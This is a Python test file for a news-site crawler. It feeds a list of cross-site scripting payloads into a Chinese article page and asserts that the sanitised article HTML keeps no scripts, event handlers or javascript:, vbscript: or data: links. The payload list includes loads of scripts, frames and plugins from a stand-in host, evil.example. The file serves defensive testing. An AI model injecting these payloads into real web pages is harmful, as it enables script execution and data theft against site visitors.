"""An XSS corpus put into an article body leaves nothing executable in body_html."""

from pathlib import Path

from lxml.html import fragment_fromstring
from scrapy.http import HtmlResponse

from portalcrawler.middlewares import with_right_encoding
from portalcrawler.pages.article import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    merge_article,
    parse_article_page,
)
from portalcrawler.profile import CHNDSNEWS

SEED = Path(__file__).parent / "fixtures" / "article" / "seed"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick=\"alert(1)\" onmouseover='alert(2)'>带事件属性的段落文字。</p>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">点我看详情</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">大小写混写</a>",
    "<a href=\"&#106;avascript:alert(1)\">实体编码</a>",
    "<a href=\"vbscript:msgbox(1)\">vbscript</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">带样式的段落。</p>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<object data=\"http://evil.example/x.swf\"></object>",
    "<embed src=\"http://evil.example/x.swf\">",
    "<form action=\"http://evil.example/\"><button formaction=\"javascript:alert(1)\">提交</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<details open ontoggle=alert(1)>展开</details>",
    "<p>正常文字<!--<script>alert(1)</script>--></p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x</p></noscript>",
]


def page_with(payloads):
    html = (SEED / "body.bin").read_bytes().decode("gbk")
    marker = '<div id="contentMidPicAD"'
    assert marker in html
    injected = "".join(f"<p>样例段落{i}。</p>{p}" for i, p in enumerate(payloads))
    html = html.replace(marker, injected + marker, 1)
    body = html.encode("gbk", errors="xmlcharrefreplace")
    response = HtmlResponse("http://127.0.0.1:8640/caijing/2023/0602/116352.html", body=body,
                            headers={"Content-Type": "text/html"})
    return with_right_encoding(response)


def test_nothing_executable_survives():
    response = page_with(PAYLOADS)
    page = parse_article_page(response, CHNDSNEWS, "http://127.0.0.1:8640/")
    fields, _ = merge_article([page], CHNDSNEWS)
    html = fields["body_html"]
    root = fragment_fromstring(html, create_parent="div")
    for element in root.iterdescendants():
        assert isinstance(element.tag, str), "a comment survived"
        assert element.tag in ALLOWED_TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in ALLOWED_ATTRIBUTES.get(element.tag, set()) | {"rel"}, (element.tag, name)
            if name in ("href", "src"):
                assert value.startswith(("http://", "https://")), value
    lowered = html.lower()
    for bad in ("javascript:", "vbscript:", "data:", "<script", "onerror", "onload", "onclick",
                "srcdoc", "<svg", "<iframe", "<style", "<meta", "<object", "<embed", "<base"):
        assert bad not in lowered, bad
    # Text around the payloads is kept (a stray <table> in the <math> payload may end the
    # body's table early, as it would in a browser; each payload alone is checked below).
    assert "样例段落3。" in fields["body"]


def test_each_payload_alone():
    for payload in PAYLOADS:
        page = parse_article_page(page_with([payload]), CHNDSNEWS, "http://127.0.0.1:8640/")
        fields = merge_article([page], CHNDSNEWS)[0]
        html = fields["body_html"].lower()
        for bad in ("javascript:", "<script", "onerror", "onload", "<iframe", "<svg", "<style"):
            assert bad not in html, (payload, bad)
        if "<table" not in payload:
            assert fields["body"].endswith("利益分享机制。"), payload
